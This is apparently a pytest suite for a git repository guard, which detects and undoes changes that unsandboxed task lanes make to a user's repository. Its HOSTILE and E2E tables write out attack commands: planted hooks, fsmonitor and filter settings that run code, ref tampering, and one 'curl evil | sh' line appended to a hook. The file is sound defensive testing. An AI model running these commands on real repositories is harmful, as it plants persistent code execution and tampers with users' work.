"""The repository guard (SPEC 10): whatever an unsandboxed lane changes in the user's
repository outside its worktree through git is found after the lane, named, and undone.

Each hostile act is what a lane can do by absolute path (``git -C "$WTMESH_REPO" ...``,
writing ``$WTMESH_REPO/.git/...``), which neither a lane's own git dir nor anything but a
sandbox prevents.
"""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import filelock
import pytest
from conftest import git, git_first_on_path, wtmesh

from worktree_mesh.git import Git
from worktree_mesh.repo_guard import RepoGuard
from worktree_mesh.sandbox import probe

RUN = "20260101T000000Z-abcdef"
OWN = f"refs/wtmesh/{RUN}/"
UNIT_REF = f"{OWN}units/u1/result"


def guard_for(repo: Path) -> RepoGuard:
    """As a commit_first run onto main makes it: the target and wtmesh's other refs are
    the integrator's to move; the user's worktree has the target checked out."""
    guard = RepoGuard(Git(repo / ".git"), own_refs=OWN,
                      ignore_refs=["refs/wtmesh/", "refs/heads/wtmesh/", "refs/heads/main"],
                      own_worktrees=[repo / ".git" / "wtmesh" / "worktrees"])
    guard.snapshot(index_of=repo)
    return guard


def as_lane(repo: Path, script: str) -> None:
    """A lane's shell command, reaching the user's repository by its path."""
    env = {**os.environ, "REPO": str(repo)}
    subprocess.run(["/bin/sh", "-c", script], cwd=repo.parent, env=env, check=True,
                   capture_output=True)


def entry(path: Path) -> tuple[str, int, bytes]:
    st = path.lstat()
    if stat.S_ISLNK(st.st_mode):
        return ("link", 0, os.fsencode(os.readlink(path)))
    if stat.S_ISREG(st.st_mode):
        return ("file", st.st_mode, path.read_bytes())
    return ("dir", st.st_mode, b"")


def tree_bytes(root: Path) -> dict[str, tuple[str, int, bytes]]:
    """``root`` and every entry below it (links not followed): kind, mode and content."""
    if not root.exists() and not root.is_symlink():
        return {}
    found = {".": entry(root)}
    if found["."][0] == "dir":
        found.update((str(p.relative_to(root)), entry(p)) for p in sorted(root.rglob("*")))
    return found


def repo_state(repo: Path, *, landed: bool = False) -> dict[str, Any]:
    """What SPEC 10 says no lane may change, read independently of the guard. After a run
    (``landed``) the target and wtmesh's own refs have moved, as they should."""
    git_dir = repo / ".git"
    refs = subprocess.run(["git", "for-each-ref",
                           "--format=%(refname) %(objectname) %(symref)"],
                          cwd=repo, capture_output=True, check=True)
    ref_lines = refs.stdout.decode().splitlines()
    if landed:
        ref_lines = [line for line in ref_lines
                     if not line.startswith(("refs/heads/main ", "refs/wtmesh/"))]
    admin = git_dir / "worktrees"
    return {
        "config": (git_dir / "config").read_bytes(),
        "config.worktree": tree_bytes(git_dir / "config.worktree"),
        "HEAD": (git_dir / "HEAD").read_bytes(),
        "refs": ref_lines,
        "ref warnings": refs.stderr.decode(),  # a planted file git cannot read as a ref
        "hooks": tree_bytes(git_dir / "hooks"),
        "info": tree_bytes(git_dir / "info"),
        "index": git(repo, "ls-files", "-s", "-v") if not landed else None,
        "staged": git(repo, "diff", "--cached", "--name-status"),
        "worktrees": {name: (admin / name / "HEAD").read_bytes()
                      for name in sorted(os.listdir(admin))} if admin.is_dir() else {},
    }


def second_commit(repo: Path) -> str:
    git(repo, "commit", "-q", "--allow-empty", "-m", "second")
    return git(repo, "rev-parse", "HEAD~1")


def commit_elsewhere(repo: Path, parent: str, path: str, data: bytes) -> str:
    """A child of ``parent`` changing one file, made in a temporary index as the
    integrator makes its candidates: the user's index and worktree are not touched."""
    env = {**os.environ, "GIT_INDEX_FILE": str(repo / ".git" / "tmp-index")}

    def plumb(*args: str, data_in: bytes | None = None) -> str:
        return subprocess.run(["git", *args], cwd=repo, env=env, input=data_in,
                              capture_output=True, check=True).stdout.decode().strip()
    plumb("read-tree", parent)
    blob = plumb("hash-object", "-w", "--stdin", data_in=data)
    plumb("update-index", "--cacheinfo", f"100644,{blob},{path}")
    commit = plumb("commit-tree", plumb("write-tree"), "-p", parent, "-m", "u1: o")
    (repo / ".git" / "tmp-index").unlink()
    return commit


# (setup before the snapshot, the lane's act, what the guard must name)
HOSTILE: dict[str, tuple[str, str, list[str]]] = {
    "core.fsmonitor": ("", 'git -C "$REPO" config core.fsmonitor "touch $REPO/../ran"',
                       [".git/config: core.fsmonitor added"]),
    "filter and attributes": (
        "", ('git -C "$REPO" config filter.evil.clean "tr a-z A-Z" && '
            'echo "* filter=evil" > "$REPO/.git/info/attributes"'),
        [".git/config: filter.evil.clean added", ".git/info/attributes created"]),
    "core.hooksPath": ("", 'git -C "$REPO" config core.hooksPath "$REPO/../hooks"',
                       [".git/config: core.hookspath added"]),
    "diff.external": ("", 'git -C "$REPO" config diff.external /bin/false',
                      [".git/config: diff.external added"]),
    "textconv": ("", 'git -C "$REPO" config diff.evil.textconv cat',
                 [".git/config: diff.evil.textconv added"]),
    "core.autocrlf": ("", 'git -C "$REPO" config core.autocrlf true',
                      [".git/config: core.autocrlf added"]),
    "user.email": ("", 'git -C "$REPO" config user.email evil@example.com',
                   [".git/config: user.email added"]),
    "include.path": (
        "", ('printf "[core]\\n\\tfsmonitor = x\\n" > "$REPO/../inc.cfg" && '
            'git -C "$REPO" config include.path "$REPO/../inc.cfg"'),
        [".git/config: include.path added"]),
    "config written as bytes": (
        "", 'printf "[core]\\n\\tbare = true\\n" >> "$REPO/.git/config"',
        [".git/config: core.bare changed"]),
    "config replaced by a link": (
        "", 'cp "$REPO/.git/config" "$REPO/../c" && ln -sf "$REPO/../c" "$REPO/.git/config"',
        [".git/config changed"]),
    "config.worktree planted": (
        "", 'printf "[core]\\n\\tfsmonitor = x\\n" > "$REPO/.git/config.worktree"',
        [".git/config.worktree created"]),
    "hook planted": (
        "", ('printf "#!/bin/sh\\n" > "$REPO/.git/hooks/pre-commit" && '
            'chmod +x "$REPO/.git/hooks/pre-commit"'),
        [".git/hooks/pre-commit created"]),
    "user's hook edited": (
        'printf "#!/bin/sh\\n" > .git/hooks/post-merge && chmod +x .git/hooks/post-merge',
        'echo "curl evil | sh" >> "$REPO/.git/hooks/post-merge"',
        [".git/hooks/post-merge changed"]),
    "user's hook made not executable": (
        'printf "#!/bin/sh\\n" > .git/hooks/post-merge && chmod +x .git/hooks/post-merge',
        'chmod -x "$REPO/.git/hooks/post-merge"', [".git/hooks/post-merge changed"]),
    "user's hook removed": (
        'printf "#!/bin/sh\\n" > .git/hooks/post-merge', 'rm "$REPO/.git/hooks/post-merge"',
        [".git/hooks/post-merge removed"]),
    "hooks replaced by a link": (
        'printf "#!/bin/sh\\n" > .git/hooks/post-merge',
        ('mkdir "$REPO/../evil" && rm -rf "$REPO/.git/hooks" && '
        'ln -s "$REPO/../evil" "$REPO/.git/hooks"'), [".git/hooks changed"]),
    "info/exclude": ("", 'echo "*.py" >> "$REPO/.git/info/exclude"',
                     [".git/info/exclude changed"]),
    "info/grafts": ("", 'git -C "$REPO" rev-parse HEAD > "$REPO/.git/info/grafts"',
                    [".git/info/grafts created"]),
    "branch": ("", 'git -C "$REPO" branch evil', ["refs/heads/evil created"]),
    "tag through --git-dir": ("", 'git --git-dir="$REPO/.git" tag t', ["refs/tags/t created"]),
    "annotated tag": ("", 'git -C "$REPO" tag -a -m m v9', ["refs/tags/v9 created"]),
    "stash": ("", 'echo x >> "$REPO/README.md" && git -C "$REPO" stash -q',
              ["refs/stash created"]),
    "symbolic ref": ("", 'git -C "$REPO" symbolic-ref refs/heads/alias refs/heads/main',
                     ["refs/heads/alias created (ref: refs/heads/main)"]),
    "remote-tracking ref": ("", 'git -C "$REPO" update-ref refs/remotes/origin/main HEAD',
                            ["refs/remotes/origin/main created"]),
    "planted ref file": ("", 'echo junk > "$REPO/.git/refs/heads/planted"',
                         [".git/refs/heads/planted created"]),
    "packed ref deleted": ("git tag v1 && git pack-refs --all", 'git -C "$REPO" tag -d v1',
                           ["refs/tags/v1 deleted"]),
    "packed ref moved": (("git commit -q --allow-empty -m two && git tag v1 && "
                         "git pack-refs --all"),
                         'git -C "$REPO" update-ref refs/tags/v1 HEAD~1', ["refs/tags/v1 moved"]),
    # git then reads no ref at all (every git command fails): the version git last
    # read is put back, and no loose ref is taken for a planted file meanwhile.
    "packed-refs garbled": (
        "git tag v1 && git branch feature && git pack-refs --all && git branch loose",
        'echo garbage > "$REPO/.git/packed-refs"', ["refs cannot be read"]),
    "packed-refs garbled where there was none": (
        "git branch loose", 'echo garbage > "$REPO/.git/packed-refs"',
        ["refs cannot be read"]),
    "wtmesh ref deleted": (f"git update-ref {UNIT_REF} HEAD",
                           f'git -C "$REPO" update-ref -d {UNIT_REF}', [f"{UNIT_REF} deleted"]),
    "wtmesh ref moved": (f"git commit -q --allow-empty -m two && git update-ref {UNIT_REF} HEAD",
                         f'git -C "$REPO" update-ref {UNIT_REF} HEAD~1', [f"{UNIT_REF} moved"]),
    "wtmesh ref planted": ("", f'git -C "$REPO" update-ref {OWN}integrated HEAD',
                           [f"{OWN}integrated created"]),
    "checkout -b in the user's worktree": (
        "", 'git -C "$REPO" checkout -q -b side', ["HEAD moved", "refs/heads/side created"]),
    "switch --detach in the user's worktree": (
        "", 'git -C "$REPO" switch -q --detach', ["HEAD moved"]),
    "HEAD pointed elsewhere": ("git branch other",
                               'git -C "$REPO" symbolic-ref HEAD refs/heads/other',
                               ["HEAD moved"]),
    "a file staged": ("", 'echo x > "$REPO/new.txt" && git -C "$REPO" add new.txt',
                      ["staged changes to new.txt"]),
    "intent to add": ("", 'echo x > "$REPO/new.txt" && git -C "$REPO" add -N new.txt',
                      ["staged changes to new.txt"]),
    "a file unstaged": ("", 'git -C "$REPO" rm -q --cached README.md',
                        ["staged changes to README.md"]),
    "skip-worktree set": ("", 'git -C "$REPO" update-index --skip-worktree README.md',
                          ["flags changed on README.md"]),
    "assume-unchanged set": ("", 'git -C "$REPO" update-index --assume-unchanged README.md',
                             ["flags changed on README.md"]),
    "a worktree registered": ("", 'git -C "$REPO" worktree add -q --detach "$REPO/../else"',
                              [".git/worktrees/else created"]),
    "a linked worktree's HEAD moved": (
        "git worktree add -q ../linked -b feature",
        'git -C "$REPO/../linked" switch -q --detach', ["HEAD of worktree", "linked moved"]),
    # Whatever git wrote or did not write in it, an entry under worktrees/ is a
    # registration (git >= 2.48 writes gitdir relative to the entry).
    "a registration planted with a relative gitdir": (
        "", ('mkdir -p "$REPO/.git/worktrees/evil" && cd "$REPO/.git/worktrees/evil" && '
            'git -C "$REPO" rev-parse HEAD > HEAD && echo ../.. > commondir && '
            'echo ../../../../elsewhere/.git > gitdir'), [".git/worktrees/evil created"]),
    "a registration planted without a gitdir": (
        "", ('mkdir -p "$REPO/.git/worktrees/evil" && '
            'git -C "$REPO" rev-parse HEAD > "$REPO/.git/worktrees/evil/HEAD"'),
        [".git/worktrees/evil created"]),
    "a linked worktree unregistered": (
        "git worktree add -q ../linked -b feature", 'rm -rf "$REPO/.git/worktrees/linked"',
        [".git/worktrees/linked removed"]),
}


@pytest.mark.parametrize("act", list(HOSTILE), ids=list(HOSTILE))
def test_each_hostile_change_is_named_and_undone_exactly(repo: Path, act: str) -> None:
    setup, script, named = HOSTILE[act]
    if setup:
        subprocess.run(["/bin/sh", "-c", setup], cwd=repo, check=True, capture_output=True)
    before = repo_state(repo)
    guard = guard_for(repo)
    assert guard.check() == []
    as_lane(repo, script)
    seen = guard.check()
    for item in named:
        assert any(item in line for line in seen), (item, seen)
    undone = guard.restore()
    assert undone == seen
    assert guard.check() == []
    assert repo_state(repo) == before


def test_a_removed_registration_comes_back_working(repo: Path) -> None:
    git(repo, "worktree", "add", "-q", "../linked", "-b", "feature")
    guard = guard_for(repo)
    as_lane(repo, 'rm -rf "$REPO/.git/worktrees/linked"')
    guard.restore()
    assert git(repo.parent / "linked", "status", "--porcelain") == ""
    assert git(repo.parent / "linked", "symbolic-ref", "HEAD") == "refs/heads/feature"


def test_restoring_runs_nothing_a_lane_planted(repo: Path, tmp_path: Path) -> None:
    """Planted programs (fsmonitor, hooks, a clean filter) must not run inside the git
    calls that look and restore: files are put back first, and every call is pinned."""
    ran = tmp_path / "ran"
    hooks = tmp_path / "evil-hooks"
    hooks.mkdir()
    for name in ("reference-transaction", "post-index-change", "post-checkout"):
        (hooks / name).write_text(f"#!/bin/sh\necho {name} >> {ran}\n")
        (hooks / name).chmod(0o755)
    guard = guard_for(repo)
    as_lane(repo, f'git -C "$REPO" config core.fsmonitor "echo fsmonitor >> {ran}; false" && '
                  f'git -C "$REPO" config core.hooksPath {hooks} && '
                  f'git -C "$REPO" config filter.evil.clean "echo filter >> {ran}; cat" && '
                  'echo "* filter=evil" > "$REPO/.git/info/attributes" && '
                  f'rm -f {ran} && git -C "$REPO" update-ref refs/heads/evil HEAD && '
                  f'rm -f {ran} && echo x > "$REPO/new.txt" && git -C "$REPO" add new.txt && '
                  f'git -C "$REPO" update-index --skip-worktree README.md && rm -f {ran}')
    assert not ran.exists()
    assert guard.check()
    assert not ran.exists(), ran.read_text()
    assert guard.restore()
    assert guard.check() == []
    assert not ran.exists(), ran.read_text()


def test_what_wtmesh_and_the_user_do_as_a_matter_of_course_is_no_change(repo: Path) -> None:
    """wtmesh's own moves (told to the guard), other runs' refs, stranded branches, gc
    removing a worktree an earlier version registered, and git's housekeeping (a status
    that refreshes the index, pack-refs, gc) are not what a lane did."""
    legacy = repo / ".git" / "wtmesh" / "worktrees" / "old-run" / "w1"
    git(repo, "worktree", "add", "-q", "--detach", str(legacy))
    guard = guard_for(repo)
    head = git(repo, "rev-parse", "HEAD")
    with guard.own_writes() as expect:  # a unit's refs, as the unit runner writes them
        git(repo, "update-ref", UNIT_REF, head)
        expect({UNIT_REF: head})
    # A landing: the target moves and the user's worktree is brought along with it.
    landed = commit_elsewhere(repo, head, "README.md", b"changed by the unit\n")
    with guard.own_writes():
        git(repo, "read-tree", "-m", "-u", head, landed)
        git(repo, "update-ref", "refs/heads/main", landed, head)
    git(repo, "update-ref", "refs/wtmesh/another-run/units/x/result", head)
    git(repo, "update-ref", f"refs/heads/wtmesh/{RUN}/integrated", head)
    git(repo, "worktree", "remove", "--force", str(legacy))
    (repo / "README.md").touch()
    git(repo, "status", "--porcelain")  # rewrites the index's stat data
    git(repo, "pack-refs", "--all")
    git(repo, "gc", "-q")
    assert guard.check() == []
    assert guard.restore() == []


def test_a_guard_not_yet_armed_sees_nothing(repo: Path) -> None:
    guard = RepoGuard(Git(repo / ".git"), own_refs=OWN)
    git(repo, "branch", "evil")
    assert guard.check() == [] and guard.restore() == []


def test_a_patch_first_guard_watches_the_target_but_no_index(repo: Path) -> None:
    """patch_first: wtmesh never moves the target, so a lane moving it is caught; the
    user may stage in their worktree while the run goes on."""
    first = second_commit(repo)
    guard = RepoGuard(Git(repo / ".git"), own_refs=OWN,
                      ignore_refs=["refs/wtmesh/", "refs/heads/wtmesh/"])
    guard.snapshot()
    (repo / "new.txt").write_text("x\n")
    git(repo, "add", "new.txt")
    git(repo, "update-ref", "refs/heads/main", first)
    assert [line.split(" (")[0] for line in guard.check()] == ["refs/heads/main moved"]
    guard.restore()
    assert git(repo, "rev-parse", "main") != first
    assert git(repo, "diff", "--cached", "--name-only") == "new.txt"


# -- end to end: the real CLI, one lane at a time ------------------------------------------


# Waits until unit a has landed: with one lane at a time the integrator may still be
# bringing the user's worktree along for a while evil's lane starts, and a git command
# of the lane's in that worktree would then meet the integrator's index.lock.
AFTER_A = ("until grep -qF '\"event\": \"unit_finished\", \"unit\": \"a\"' "
           '"$WTMESH_REPO/.git/wtmesh/runs/$WTMESH_RUN_ID/ledger.jsonl"; do sleep 0.02; done')


def three_units(act: str, *, where: str = "coder") -> dict[str, Any]:
    """Units a, evil and c; evil's lane (or setup, or fixer) also does ``act``."""
    def unit(uid: str) -> dict[str, Any]:
        lanes: dict[str, Any] = {"coder": {"command": f"echo {uid} > {uid}.txt"}}
        if uid == "evil" and where == "coder":
            lanes["coder"] = {"command": f"{AFTER_A}; {act} && echo evil > evil.txt"}
        if uid == "evil" and where == "fixer":
            lanes["fixer"] = {"command": act}
        return {"id": uid, "objective": f"write {uid}", "unit_scope": f"{uid}.txt",
                "lanes": lanes}
    plan: dict[str, Any] = {"units": [unit("a"), unit("evil"), unit("c")]}
    if where == "setup":
        plan["setup"] = {"command": f'if [ "$WTMESH_UNIT_ID" = evil ]; then {act}; fi'}
    return plan


def run_json(repo: Path, plan: Path, *args: str) -> tuple[int, dict[str, Any], str]:
    # The guard is for unsandboxed lanes (sandboxed, the repository is read-only to them).
    res = wtmesh("run", plan, "--json", "--max-active", "1", "--sandbox", "none", *args,
                 cwd=repo)
    assert "Traceback" not in res.stderr, res.stderr
    return res.returncode, res.json(), res.stderr


def unit_of(summary: dict[str, Any], uid: str) -> dict[str, Any]:
    return next(u for u in summary["units"] if u["id"] == uid)


def ledger(repo: Path, run_id: str) -> list[dict[str, Any]]:
    path = repo / ".git" / "wtmesh" / "runs" / run_id / "ledger.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()]


E2E: dict[str, tuple[str, str]] = {
    "core.fsmonitor by git -C": (
        'git -C "$WTMESH_REPO" config core.fsmonitor "touch $WTMESH_REPO/../fsmonitor-ran"',
        ".git/config: core.fsmonitor added"),
    "a filter written into .git/config": (
        ('printf "[filter \\"evil\\"]\\n\\tclean = tr a-z A-Z\\n" >> "$WTMESH_REPO/.git/config"'
        ' && echo "*.txt filter=evil" >> "$WTMESH_REPO/.git/info/attributes"'),
        ".git/config: filter.evil.clean added"),
    "user.email": ('git -C "$WTMESH_REPO" config user.email evil@example.com',
                   ".git/config: user.email added"),
    "a branch": ('git -C "$WTMESH_REPO" branch x', "refs/heads/x created"),
    "a tag through --git-dir": ('git --git-dir="$WTMESH_REPO/.git" tag t',
                                "refs/tags/t created"),
    "a stash": ('echo x >> "$WTMESH_REPO/README.md" && git -C "$WTMESH_REPO" stash -q',
                "refs/stash created"),
    "a hook": (('printf "#!/bin/sh\\nexit 1\\n" > "$WTMESH_REPO/.git/hooks/pre-commit" && '
               'chmod +x "$WTMESH_REPO/.git/hooks/pre-commit"'), ".git/hooks/pre-commit created"),
    "info/exclude": ('echo c.txt >> "$WTMESH_REPO/.git/info/exclude"',
                     ".git/info/exclude changed"),
    "the user's HEAD detached": ('git -C "$WTMESH_REPO" switch -q --detach', "HEAD moved"),
    "another branch checked out in the user's worktree": (
        'git -C "$WTMESH_REPO" checkout -q -b side', "refs/heads/side created"),
    "the earlier unit's result ref deleted": (
        'git -C "$WTMESH_REPO" update-ref -d "refs/wtmesh/$WTMESH_RUN_ID/units/a/result"',
        "/units/a/result deleted"),
    "a worktree registered in the state directory": (
        'git -C "$WTMESH_REPO" worktree add -q --detach "$WTMESH_REPO/.git/wtmesh/evil"',
        ".git/worktrees/evil created"),
    "a file staged in the user's index": (
        'echo x > "$WTMESH_REPO/staged.txt" && git -C "$WTMESH_REPO" add staged.txt',
        "staged changes to staged.txt"),
}


@pytest.mark.parametrize("act", list(E2E), ids=list(E2E))
def test_a_lane_changing_the_repository_by_path_fails_and_is_undone(
        repo: Path, write_plan: Callable[..., Path], act: str) -> None:
    script, named = E2E[act]
    before = repo_state(repo, landed=True)
    code, summary, stderr = run_json(repo, write_plan(three_units(script)))
    assert code == 1, stderr
    evil = unit_of(summary, "evil")
    assert (evil["status"], evil["failure_code"]) == ("failed", "safety_regression_risk")
    events = ledger(repo, summary["run_id"])
    notes = next(e["notes"] for e in events
                 if e["event"] == "unit_finished" and e["unit"] == "evil")
    assert "the coder changed the repository outside its worktree" in notes
    assert named in notes and "all of it was undone" in notes, notes
    for uid in ("a", "c"):
        assert unit_of(summary, uid)["status"] == "integrated"
        assert git(repo, "show", f"main:{uid}.txt") == uid  # no filter rewrote it
    assert repo_state(repo, landed=True) == before
    assert git(repo, "symbolic-ref", "HEAD") == "refs/heads/main"
    assert (repo / "c.txt").read_text() == "c\n"  # the user's worktree came along
    assert not (repo.parent / "fsmonitor-ran").exists()
    result = next(e["result"] for e in events
                  if e["event"] == "lanes_done" and e["unit"] == "a")
    assert git(repo, "rev-parse", f"refs/wtmesh/{summary['run_id']}/units/a/result") == result


@pytest.mark.parametrize("where", ["setup", "fixer"])
def test_setup_and_fixer_are_checked_too(repo: Path, write_plan: Callable[..., Path],
                                         where: str) -> None:
    before = repo_state(repo, landed=True)
    plan = three_units('git -C "$WTMESH_REPO" tag planted', where=where)
    code, summary, stderr = run_json(repo, write_plan(plan))
    assert code == 1, stderr
    evil = unit_of(summary, "evil")
    assert (evil["status"], evil["failure_code"]) == ("failed", "safety_regression_risk")
    notes = next(e["notes"] for e in ledger(repo, summary["run_id"])
                 if e["event"] == "unit_finished" and e["unit"] == "evil")
    assert f"the {where} changed the repository" in notes and "refs/tags/planted" in notes
    assert [unit_of(summary, u)["status"] for u in ("a", "c")] == ["integrated"] * 2
    assert repo_state(repo, landed=True) == before


def test_a_change_no_lane_check_saw_is_undone_at_the_end_with_a_warning(
        repo: Path, write_plan: Callable[..., Path]) -> None:
    """A proof runs the units' code: what it changes in the repository is found by the
    check at the end of the run, said in the ledger, and undone."""
    before = repo_state(repo, landed=True)
    # On the unit's tree only: the base's proof runs beside the lane, whose own check
    # would take the tag for the lane's.
    plan = write_plan({"proof_command": f"test ! -e a.txt || git -C {repo} tag from-proof",
                       "units": [{"id": "a", "objective": "o", "unit_scope": "a.txt",
                                  "lanes": {"coder": {"command": "echo a > a.txt"}}}]})
    code, summary, stderr = run_json(repo, plan)
    assert code == 0, stderr
    warnings = [e for e in ledger(repo, summary["run_id"]) if e["event"] == "warning"]
    assert any(any(c.startswith("refs/tags/from-proof created") for c in w["changed"])
               for w in warnings), warnings
    assert "refs/tags/from-proof created" in stderr
    assert repo_state(repo, landed=True) == before


def wait_for_event(repo: Path, event: str, proc: subprocess.Popen[bytes]) -> str:
    """The run id, once the newest run's ledger has ``event`` (waiting on the file)."""
    runs = repo / ".git" / "wtmesh" / "runs"
    while True:
        assert proc.poll() is None, proc.communicate()
        for ledger_file in runs.glob("*/ledger.jsonl"):
            if f'"event": "{event}"' in ledger_file.read_text():
                return ledger_file.parent.name
        time.sleep(0.02)


def wait_for_file(path: Path, proc: subprocess.Popen[bytes]) -> None:
    while not path.exists():
        assert proc.poll() is None, proc.communicate()
        time.sleep(0.02)


def test_user_email_a_lane_sets_never_signs_another_units_commit(
        repo: Path, write_plan: Callable[..., Path], tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Unit x's lane sets user.email while unit a waits to land (the test holds the
    integrator lock until then). a's commit carries the identity the repository had when
    the run started, and x fails for what it did."""
    for role in ("AUTHOR", "COMMITTER"):
        monkeypatch.delenv(f"GIT_{role}_NAME")
        monkeypatch.delenv(f"GIT_{role}_EMAIL")
    git(repo, "config", "user.name", "Repo Owner")
    git(repo, "config", "user.email", "owner@example.com")
    go, done, set_ = tmp_path / "go", tmp_path / "done", tmp_path / "set"
    locked = tmp_path / "locked"
    x_lane = (f"while [ ! -e {go} ]; do sleep 0.02; done; "
              'git -C "$WTMESH_REPO" config user.email evil@example.com; '
              f"touch {set_}; while [ ! -e {done} ]; do sleep 0.02; done; echo x > x.txt")
    plan = write_plan({"max_active": 2, "units": [
        {"id": "a", "objective": "write a", "unit_scope": "a.txt",
         "lanes": {"coder": {"command": f"while [ ! -e {locked} ]; do sleep 0.02; done; "
                                        "echo a > a.txt"}}},
        {"id": "x", "objective": "write x", "unit_scope": "x.txt",
         "lanes": {"coder": {"command": x_lane}}}]})
    proc = subprocess.Popen([sys.executable, "-m", "worktree_mesh", "run", str(plan), "--json",
                             "--sandbox", "none"],
                            cwd=repo, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL)
    try:
        wait_for_event(repo, "run_started", proc)
        lock = filelock.FileLock(str(repo / ".git/wtmesh/integrator.lock"))
        with lock:
            locked.touch()  # a's lane may end now; its landing waits for the lock
            wait_for_event(repo, "lock_wait", proc)  # a's lanes are done and checked
            go.touch()
            wait_for_file(set_, proc)
        run_id = wait_for_event(repo, "landed", proc)
        done.touch()
        out, err = proc.communicate(timeout=120)
    finally:
        for gate in (locked, go, done):
            gate.touch()
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 1, err.decode()
    summary = json.loads(out)
    assert summary["run_id"] == run_id
    a = unit_of(summary, "a")
    assert a["status"] == "integrated"
    assert git(repo, "log", "-1", "--format=%an <%ae>|%cn <%ce>", a["commit"]) == \
        "Repo Owner <owner@example.com>|Repo Owner <owner@example.com>"
    x = unit_of(summary, "x")
    assert (x["status"], x["failure_code"]) == ("failed", "safety_regression_risk")
    assert git(repo, "config", "user.email") == "owner@example.com"


# -- on only where lanes are not sandboxed ---------------------------------------------------

@pytest.mark.parametrize("mode", [pytest.param("bwrap", marks=pytest.mark.skipif(
    probe() is not None, reason=f"bubblewrap cannot run here: {probe()}")), "none"])
def test_only_an_unsandboxed_run_watches_the_repository(
        repo: Path, write_plan: Callable[..., Path], tmp_path: Path, mode: str) -> None:
    """While the lane runs, the user (this test, outside any sandbox) moves a branch onto a
    commit of theirs and makes a tag. Sandboxed, no lane could have done that: both stay
    and the unit lands. Unsandboxed it cannot be told from the lane's doing: both are
    undone, the unit fails, and its notes name both commits, so neither is lost."""
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "branch", "feature")
    moved_to = commit_elsewhere(repo, base, "README.md", b"the user's\n")
    tagged = commit_elsewhere(repo, base, "README.md", b"tagged\n")
    meet = tmp_path / "meet"
    meet.mkdir()
    plan = write_plan({"sandbox_writable": [str(meet)], "units": [
        {"id": "u1", "objective": "o", "unit_scope": "u1.txt", "lanes": {"coder": {
            "command": f"touch {meet}/started; while [ ! -e {meet}/go ]; do sleep 0.02; done; "
                       "echo u1 > u1.txt"}}}]})
    proc = subprocess.Popen([sys.executable, "-m", "worktree_mesh", "run", str(plan), "--json",
                             "--sandbox", mode], cwd=repo, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
    try:
        wait_for_file(meet / "started", proc)
        git(repo, "update-ref", "refs/heads/feature", moved_to, base)
        git(repo, "tag", "mine", tagged)
    finally:
        (meet / "go").touch()
        out, err = proc.communicate(timeout=300)
    assert "Traceback" not in err.decode(), err.decode()
    summary = json.loads(out)
    u1 = unit_of(summary, "u1")
    events = ledger(repo, summary["run_id"])
    if mode == "bwrap":
        assert proc.returncode == 0, err.decode()
        assert u1["status"] == "integrated"
        assert git(repo, "rev-parse", "feature", "mine") == f"{moved_to}\n{tagged}"
        assert not [e for e in events if e["event"] in ("repo_changed", "warning")]
        return
    assert proc.returncode == 1, err.decode()
    assert (u1["status"], u1["failure_code"]) == ("failed", "safety_regression_risk")
    assert git(repo, "rev-parse", "feature") == base
    assert git(repo, "tag", "--list", "mine") == ""
    notes = next(e["notes"] for e in events
                 if e["event"] == "unit_finished" and e["unit"] == "u1")
    assert f"refs/heads/feature moved (was {base[:12]}, now {moved_to[:12]})" in notes, notes
    assert f"refs/tags/mine created ({tagged[:12]})" in notes, notes
    # What the notes name brings each back.
    for named, commit in ((moved_to[:12], moved_to), (tagged[:12], tagged)):
        assert git(repo, "rev-parse", "--verify", f"{named}^{{commit}}") == commit


def test_a_ref_moved_again_while_the_guard_undoes_keeps_the_newer_commit(
        repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The user commits onto a branch twice: once before the guard looks (it cannot be
    told from a lane's commit, and is undone), once between the look and the undo. The
    undo is a compare-and-swap against what it saw: the second commit stays on the
    branch, and the guard still reports the branch as moved."""
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "branch", "feature")
    guard = guard_for(repo)
    first = commit_elsewhere(repo, base, "README.md", b"one\n")
    second = commit_elsewhere(repo, first, "README.md", b"two\n")
    git(repo, "update-ref", "refs/heads/feature", first)
    look = guard._take_refs_and_files

    def look_then_the_user_commits_again() -> Any:
        seen = look()
        git(repo, "update-ref", "refs/heads/feature", second, first)
        return seen
    monkeypatch.setattr(guard, "_take_refs_and_files", look_then_the_user_commits_again)
    assert any(line.startswith("refs/heads/feature moved") for line in guard.restore())
    monkeypatch.undo()
    assert git(repo, "rev-parse", "feature") == second
    assert f"refs/heads/feature moved (was {base[:12]}, now {second[:12]})" in guard.check()


def test_a_worktree_left_behind_is_no_longer_watched(
        repo: Path, write_plan: Callable[..., Path], tmp_path: Path) -> None:
    """The user makes an untracked a.txt just after the target moved onto unit a's a.txt
    (a git first on PATH does it as the compare-and-swap returns): wtmesh leaves their
    worktree behind, its index at the old commit on purpose. The guard must not take
    that index for a lane's doing and "restore" it to the target, which would stage the
    reversal of every later landing and break the command that brings it along."""
    old = git(repo, "rev-parse", "main")
    marker = tmp_path / "made"
    env = git_first_on_path(tmp_path, f"""\
"$REAL_GIT" "$@"; rc=$?
case " $* " in *" update-ref "*" refs/heads/main "*)
  if [ $rc = 0 ] && [ ! -e {marker} ]; then touch {marker}; echo "user's" > {repo}/a.txt; fi;;
esac
exit $rc
""")
    plan = write_plan({"units": [
        {"id": u, "objective": "o", "unit_scope": f"{u}.txt",
         "lanes": {"coder": {"command": f"echo {u} > {u}.txt"}}} for u in ("a", "b")]})
    res = wtmesh("run", plan, "--json", "--max-active", "1", "--sandbox", "none", cwd=repo,
                 env=env)
    assert "Traceback" not in res.stderr, res.stderr
    summary = res.json()
    assert res.returncode == 3, res.stderr
    assert [u["status"] for u in summary["units"]] == ["integrated", "integrated"]
    events = ledger(repo, summary["run_id"])
    assert [e["event"] for e in events if e["event"] == "left_behind"] == ["left_behind"]
    assert not [e for e in events if e["event"] in ("repo_changed", "warning")], events
    assert git(repo, "diff", "--cached", "--name-only", old) == ""  # the index stayed at old
    (repo / "a.txt").unlink()
    subprocess.run(summary["not_brought_along"]["command"], shell=True, check=True,
                   cwd=tmp_path, capture_output=True)
